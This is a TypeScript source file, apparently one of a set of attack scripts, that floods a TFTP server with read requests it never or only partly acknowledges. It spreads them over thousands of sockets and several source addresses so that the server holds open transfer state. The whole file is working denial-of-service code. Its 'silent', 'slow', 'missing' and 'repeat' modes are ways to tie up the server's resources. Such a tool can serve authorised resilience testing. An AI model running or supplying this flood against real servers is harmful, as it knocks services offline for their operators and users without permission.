/**
 * Read requests that are never acknowledged: `tftp-flood.ts SERVER COUNT ADDRESSES FILE MODE`. It sends COUNT, each from a port of
 * its own and in turn from its addresses, is under way, and then sends others. MODE `silent` never acknowledges, `slow`
 * acknowledges the first block and then nothing, `missing` asks for files that are not there, `repeat` always from one port.
 */
import { createSocket, type Socket } from "node:dgram";
import { count, counted, over, ownAddress, pause, server, underWay, words } from "./attack.ts";

const [total = "", addresses = "", file = "", mode = ""] = words;
/** Sockets that are open at a time; the oldest is closed for the next. */
const OPEN = 2500;
const BURST = 20;

const sockets: Socket[] = [];

/** RFC 1350: the block of a DATA packet goes back as an ACK. */
function acknowledge(socket: Socket, data: Buffer, port: number): void {
	if (mode === "slow" && data.readUInt16BE(0) === 3 && data.readUInt16BE(2) === 1) {
		socket.send(Buffer.concat([Buffer.from([0, 4]), data.subarray(2, 4)]), port, server);
	}
}

function open(): Promise<Socket> {
	const socket = createSocket("udp4");
	const address = ownAddress(counted("requests") % Number(addresses));
	socket.on("message", (data, { port }) => {
		count("datagrams back");
		if (data.length >= 4) acknowledge(socket, data, port);
	});
	// An ICMP error of a transfer that is over.
	socket.on("error", () => count("errors"));
	sockets.push(socket);
	if (sockets.length > OPEN) sockets.shift()?.close();
	return new Promise((resolve) => socket.bind(0, address, () => resolve(socket)));
}

async function request(): Promise<void> {
	const last = sockets.at(-1);
	const socket = mode === "repeat" && last !== undefined ? last : await open();
	const name = mode === "missing" ? `${file}.${counted("requests")}` : file;
	const options = mode === "slow" ? "" : "blksize\x001468\0tsize\x000\0";
	await new Promise<void>((resolve) => socket.send(`\0\x01${name}\0octet\0${options}`, 69, server, () => resolve()));
	count("requests");
}

while (!over()) {
	for (let each = 0; each < BURST; each++) await request();
	const isFull = counted("requests") >= Number(total);
	if (isFull && counted("requests") < Number(total) + BURST) underWay();
	await pause(isFull ? 40 : 4);
}
